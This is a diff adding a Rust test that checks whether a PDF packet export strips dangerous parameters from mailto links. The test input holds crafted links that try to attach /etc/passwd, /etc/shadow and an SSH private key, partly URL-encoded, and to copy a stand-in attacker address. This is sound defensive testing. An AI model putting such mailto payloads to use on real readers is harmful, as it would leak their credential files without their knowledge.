@@ -180,6 +180,28 @@ fn a_packet_pdf_links_only_to_web_and_mail_addresses() {
     );
 }
 
+#[test]
+fn attack_a_mail_link_in_a_packet_pdf_attaches_nothing() {
+    // A mail program may attach a file a `mailto:` link names, or copy
+    // someone, without the reader seeing it: the PDF's link keeps only the
+    // recipient, subject and body.
+    let mut t = TempLibrary::new();
+    let body = "[Write to us](mailto:office@example.org?subject=Bill%20C-11&attach=/etc/passwd&Cc=x@attacker.example&body=Hello) \
+                or [to the clerk](MAILTO:clerk@example.org?%61ttach=%2Fhome%2Fuser%2F.ssh%2Fid_ed25519&Attachment=file:///etc/shadow).";
+    let paper = add_paper(&mut t.lib, "Mail links", body).paper_id;
+    t.lib.publish(paper, None, None).expect("publish");
+    let packet = t.lib.create_packet(NewPacket { title: "Mail".into(), ..NewPacket::default() }).expect("packet").id;
+    t.lib.add_packet_item(packet, paper, None).expect("add the paper");
+    let out = t.dir.path().join("mail.pdf");
+    t.lib.export_packet(packet, &ExportOptions { out: out.clone(), ..ExportOptions::default() }).expect("export");
+
+    let doc = Document::load(&out).expect("a well-formed PDF");
+    let mut uris = link_uris(&doc);
+    uris.sort();
+    uris.dedup();
+    assert_eq!(uris, ["mailto:clerk@example.org", "mailto:office@example.org?subject=Bill%20C-11&body=Hello"]);
+}
+
 // ---- Queries.
 
 fn searchable_library() -> (TempLibrary, i64, i64) {
